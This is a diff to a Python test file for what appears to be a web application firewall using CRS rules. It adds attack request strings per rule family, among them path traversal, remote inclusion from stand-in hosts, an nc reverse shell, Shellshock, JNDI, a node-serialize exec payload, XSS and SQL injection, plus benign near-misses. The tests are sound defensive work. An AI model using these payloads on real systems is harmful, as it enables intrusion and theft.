@@ -3,6 +3,7 @@ level 1, benign near-misses it leaves alone, exclusions, the anomaly threshold, 
 
 from __future__ import annotations
 
+import base64
 import time
 from pathlib import Path
 
@@ -49,60 +50,107 @@ def matched(engine: Engine, incoming: Incoming, **crs: object) -> list[int]:
     ]
 
 
-# (family, request target, header) -> a rule of that family must match. Written from each rule's intent.
+NODE_SERIALIZE = base64.b64encode(b'_$$ND_FUNC$$_function(){require("child_process").exec("id")}()').decode()
+# (family, request target): a rule of that family must match. Written from each rule's intent.
 ATTACKS = [
-    ("930", "/f?file=../../../../etc/passwd", None),
-    ("930", "/f?file=..%252f..%252fetc%252fshadow", None),
-    ("930", "/.htaccess", None),
-    ("931", "/p?page=http://203.0.113.9/shell.txt?", None),
-    ("931", "/p?inc=ftp://203.0.113.9/x.php%3f", None),
-    ("932", "/run?cmd=;cat%20/etc/passwd", None),
-    ("932", "/run?cmd=%7Cnc%20-e%20/bin/sh%20203.0.113.9%204444", None),
-    ("932", "/run?x=()%20%7B%20:;%20%7D;%20/bin/bash%20-c%20id", None),
-    ("932", "/run?cmd=powershell.exe%20-enc%20AAAA", None),
-    ("933", "/p?x=%3C%3Fphp%20system($_GET%5B'c'%5D);%20%3F%3E", None),
-    ("933", "/p?x=php://filter/convert.base64-encode/resource=index.php", None),
-    ("933", "/p?x=O:8:%22stdClass%22:0:%7B%7D", None),
-    (
-        "934",
-        "/n?x=XyQkTkRfRlVOQyQkX2Z1bmN0aW9uKCl7cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImlkIil9KCk=",
-        None,
-    ),  # 934100 decodes base64 (CRS 3.3: node-serialize)
-    ("941", "/s?q=%3Cscript%3Ealert(1)%3C/script%3E", None),
-    ("941", "/s?q=%3Cimg%20src=x%20onerror=alert(1)%3E", None),
-    ("941", "/s?q=javascript:alert(document.cookie)", None),
-    ("942", "/q?id=1'%20union%20select%20password%20from%20users--", None),
-    ("942", "/q?id=1%20AND%20SLEEP(5)", None),
-    ("942", "/q?id=1';%20exec%20master..xp_cmdshell%20'dir'--", None),
-    ("943", "/s?PHPSESSID=abc&x=%3Cmeta%20http-equiv=Set-Cookie%20content=%22sessionid=1%22%3E", None),
-    ("944", "/j?x=java.lang.Runtime.getRuntime().exec(%22id%22)", None),
-    ("944", "/j?x=new%20java.lang.ProcessBuilder(%22id%22).start()", None),
-    ("932", "/j?x=%24%7Bjndi:ldap://203.0.113.9/a%7D", None),  # JNDI: CRS 3.3 sees a shell expression
+    ("930", "/f?file=../../../../etc/passwd"),
+    ("930", "/f?file=..%252f..%252fetc%252fshadow"),  # double encoding
+    ("930", "/f?file=....//....//etc/passwd"),  # a filter stripping ../ once
+    ("930", "/f?file=%2e%2e%5c%2e%2e%5cwindows%5cwin.ini"),  # Windows separators
+    ("930", "/f?p=/proc/self/environ"),
+    ("930", "/.htaccess"),
+    ("931", "/p?page=http://203.0.113.9/shell.txt?"),
+    ("931", "/p?inc=ftp://203.0.113.9/x.php%3f"),
+    ("931", "/p?page=http://evil.example/x?"),
+    ("932", "/run?cmd=;cat%20/etc/passwd"),
+    ("932", "/run?c=c'a't%20/e%22t%22c/pa''sswd"),  # quote evasion (cmdLine)
+    ("932", "/run?c=;/bin/c%5cat%20/etc/hosts"),  # backslash evasion
+    ("932", "/run?c=%24(whoami)"),  # command substitution
+    ("932", "/run?cmd=%7Cnc%20-e%20/bin/sh%20203.0.113.9%204444"),
+    ("932", "/run?x=()%20%7B%20:;%20%7D;%20/bin/bash%20-c%20id"),  # Shellshock
+    ("932", "/run?cmd=powershell.exe%20-enc%20AAAA"),
+    ("932", "/j?x=%24%7Bjndi:ldap://203.0.113.9/a%7D"),  # JNDI: CRS 3.3 sees a shell expression
+    ("933", "/p?x=%3C%3Fphp%20system($_GET%5B'c'%5D);%20%3F%3E"),
+    ("933", "/p?x=php://filter/convert.base64-encode/resource=index.php"),
+    ("933", "/p?x=expect://id"),
+    ("933", "/p?x=phpinfo()"),
+    ("933", "/p?x=%24_SERVER%5B'HTTP_HOST'%5D"),
+    ("933", "/p?x=O:8:%22stdClass%22:0:%7B%7D"),  # a serialized object
+    ("934", "/n?x=" + NODE_SERIALIZE),  # 934100 decodes base64 (CRS 3.3: node-serialize)
+    ("941", "/s?q=%3Cscript%3Ealert(1)%3C/script%3E"),
+    ("941", "/s?q=%3Cimg%20src=x%20onerror=alert(1)%3E"),
+    ("941", "/s?q=%26%23x3C;svg/onload=alert(1)%26%23x3E;"),  # entity-encoded
+    ("941", "/s?q=%3Ca%20href=%22jav%26%23x09;ascript:alert(1)%22%3E"),  # a tab inside the scheme
+    ("941", "/s?q=javascript:alert(document.cookie)"),
+    ("942", "/q?id=1'%20union%20select%20password%20from%20users--"),
+    ("942", "/q?id=1%20AND%20SLEEP(5)"),
+    ("942", "/q?id=1;waitfor%20delay%20'0:0:5'--"),
+    ("942", "/q?id=1';%20exec%20master..xp_cmdshell%20'dir'--"),
+    ("943", "/s?x=%3Cmeta%20http-equiv%3D%22set-cookie%22%20content%3D%22a%3Db%22%3E"),
+    ("943", "/login?phpsessid=x"),  # 943120: a session id set by a parameter, no Referer
+    ("944", "/j?x=java.lang.Runtime.getRuntime().exec(%22id%22)"),
+    ("944", "/j?x=new%20java.lang.ProcessBuilder(%22id%22).start()"),
+    ("944", "/j?x=java.lang.Class.forName(%22x%22)"),
 ]
 
 
-@pytest.mark.parametrize(("family", "target", "header"), ATTACKS)
-def test_each_family_catches_its_attacks(
-    loaded: tuple[Engine, Parsed], family: str, target: str, header: str | None
-) -> None:
+@pytest.mark.parametrize(("family", "target"), ATTACKS)
+def test_each_family_catches_its_attacks(loaded: tuple[Engine, Parsed], family: str, target: str) -> None:
     ids = matched(loaded[0], request(target))
     assert any(str(rule_id).startswith(family) for rule_id in ids), f"{target}: {ids}"
 
 
-# Benign values that share words or characters with the attacks above.
-BENIGN = [
-    "/search?q=union+station+opening+hours",
-    "/search?q=select+a+seat&sort=price",
-    "/docs?file=guide.pdf&page=2",
-    "/post?title=Cats+%26+dogs%3A+a+love+story",
-    "/p?next=/account/settings",
+# Per family, benign values sharing its words or characters: no rule of the family fires on them.
+NEAR_MISSES = [
+    ("930", "/docs?file=guide.pdf"), ("930", "/a?path=docs/2024/report.txt"), ("930", "/a?v=1.2.3"),
+    ("931", "/p?next=/account/settings"), ("931", "/p?url=https://shop.example/cart"),
+    ("932", "/a?msg=Meet+me+at+5;+bring+the+cat"), ("932", "/a?q=cat+food"),
+    ("932", "/a?title=Tom+%26+Jerry"),
+    ("933", "/a?x=system+requirements"), ("933", "/a?q=php+is+a+language"),
+    ("934", "/a?q=new+function+of+the+shop"), ("934", "/a?q=eval+report+2024"),
+    ("941", "/a?q=I+%3C3+cats"), ("941", "/a?comment=I+ran+the+script+yesterday"),
+    ("941", "/a?q=on+load+balancing"),
+    ("942", "/search?q=union+station"), ("942", "/search?q=select+a+seat"), ("942", "/a?name=O%27Brien"),
+    ("942", "/a?q=from+A+to+B+where+x"), ("942", "/a?q=1+or+2+items"),
+    ("943", "/a?session_length=30"), ("943", "/a?q=cookie+recipes"),
+    ("944", "/a?java=version+17"), ("944", "/a?q=runtime+error"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("family", "target"), NEAR_MISSES)
+def test_benign_near_misses_fire_no_rule_of_the_family(
+    loaded: tuple[Engine, Parsed], family: str, target: str
+) -> None:
+    ids = matched(loaded[0], request(target))
+    assert not any(str(rule_id).startswith(family) for rule_id in ids), f"{target}: {ids}"
+
+
+# What CRS 3.3 at paranoia level 1 leaves to libinjection (942100, not used here): the built-in detector
+# catches it, so the gateway's score does.
+LIBINJECTION_ONLY = ["/q?id=1'%20or%20'1'='1", "/q?id=admin'--", "/q?id=1/**/union/**/select/**/1,2"]
+
+
+@pytest.mark.parametrize("target", LIBINJECTION_ONLY)
+def test_what_crs_leaves_to_libinjection_the_sql_detector_catches(
+    loaded: tuple[Engine, Parsed], target: str
+) -> None:
+    engine, _ = loaded
+    config = make_config({"risk": {"crs": {"enabled": True}}})
+    result = score(
+        RiskInput(request(target), CALLER, HISTORY, ROUTE, 65536), config, {"crs": crs_factor(engine)}
+    )
+    assert not result.fired("crs") and result.fired("sql_injection")
+
+
+# Benign requests as a whole: the factor stays under the threshold.
+# Values that start with a Unix command's name ("php ...", "eval ...") fire 932150 at level 1, as in CRS
+# itself: left out here, and tuned by exclusion below.
+STARTS_WITH_A_COMMAND = ["/a?q=php+is+a+language", "/a?q=eval+report+2024", "/a?q=wget+manual"]
+BENIGN = [target for _, target in NEAR_MISSES if target not in STARTS_WITH_A_COMMAND] + [
     "/shop/items?color=red&size=M&q=t-shirt",
     "/a?email=jane.doe%40example.com&name=O%27Brien",
-    "/a?comment=I+ran+the+script+yesterday+and+it+worked",
-    "/a?msg=Meet+me+at+5;+bring+the+cat",
     "/api/v1/orders/12345?expand=items,customer",
     "/a?date=2024-01-02T10:00:00Z&tz=Europe/Paris",
-    "/a?java=version+17&lang=en",
 ]
 
 
@@ -118,6 +166,21 @@ def test_benign_near_misses_do_not_reach_the_threshold(loaded: tuple[Engine, Par
         65536,
     )
     assert crs_factor(engine)(inp, config) is None
+
+
+def test_932150_on_values_starting_with_a_command_is_tuned_by_a_route_exclusion(
+    loaded: tuple[Engine, Parsed],
+) -> None:
+    engine, _ = loaded
+    routes = [{"path": "/search", "handler": "echo"}, {"path": "/*", "handler": "echo"}]
+    crs = {"enabled": True, "exclude": [{"ids": [932150], "route": "/search"}]}
+    config = make_config({"routes": routes, "risk": {"crs": crs}})
+    for target in STARTS_WITH_A_COMMAND:
+        path = target.replace("/a?", "/search?")
+        on_search = RiskInput(request(path), CALLER, HISTORY, config.routes[0], 65536)
+        elsewhere = RiskInput(request(target), CALLER, HISTORY, config.routes[1], 65536)
+        assert crs_factor(engine)(on_search, config) is None
+        assert "932150" in (crs_factor(engine)(elsewhere, config) or "")
 
 
 def test_the_factor_names_the_rules_and_the_anomaly_score(loaded: tuple[Engine, Parsed]) -> None:
